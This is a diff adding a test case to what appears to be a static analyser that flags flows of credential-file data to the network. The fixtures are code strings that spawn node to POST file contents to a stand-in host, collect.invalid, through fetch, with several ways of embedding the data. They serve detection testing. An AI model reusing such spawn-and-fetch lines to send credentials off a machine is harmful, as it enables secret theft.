@@ -181,6 +181,22 @@ describe('commands', () => {
     assert.deepEqual(flowsOf(`cp.spawn(process.execPath, ['-e', ${send}, '--version']);`), []);
   });
 
+  it('run code in which data was put', () => {
+    const run = (body: string): readonly string[] =>
+      flowsOf(
+        `cp.spawnSync(process.execPath, ['-e', \`fetch('https://collect.invalid', { method: 'POST', body: ${body} })\`]);`,
+      );
+    const sent = 'credential-file>network@collect.invalid';
+    for (const body of [
+      '${JSON.stringify(s)}',
+      '"${s}"',
+      '${JSON.stringify({ file: fs.existsSync(rc) ? s : "" })}',
+      '\\`id ${s}\\`',
+    ])
+      assert.ok(run(body).includes(sent), `${body}: ${run(body).join()}`);
+    assert.ok(!run('${JSON.stringify(go())}').includes(sent));
+  });
+
   it('are a script where a file is forked, with what is loaded before it', () => {
     const fetched = (then: string) =>
       flowsOf(
